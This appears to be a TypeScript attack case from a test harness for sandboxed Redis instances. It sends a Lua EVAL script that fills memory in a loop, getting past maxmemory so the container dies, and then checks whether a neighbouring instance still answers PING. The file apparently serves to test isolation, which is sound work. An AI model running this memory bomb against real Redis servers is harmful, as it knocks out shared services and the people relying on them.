// Fills memory inside one script, where maxmemory is not looked at → the box ends for memory, alone
import { usedMemory } from '../outside.ts';
import { attack } from '../attack.ts';

export default attack(async ({ redis }) => {
  const [bomb, neighbour] = await Promise.all([redis(), redis()]);
  const running = bomb.learner
    .eval("local t = {} for i = 1, 1e9 do t[i] = string.rep('x', 1000) .. i end", 0)
    .catch(() => null);
  const mib = await usedMemory(bomb.box, running);
  const answer = await neighbour.learner.ping().catch((error: Error) => error.message);
  return { effect: mib > 260 || answer !== 'PONG', observed: `${mib} MiB; its neighbour says ${answer}` };
});
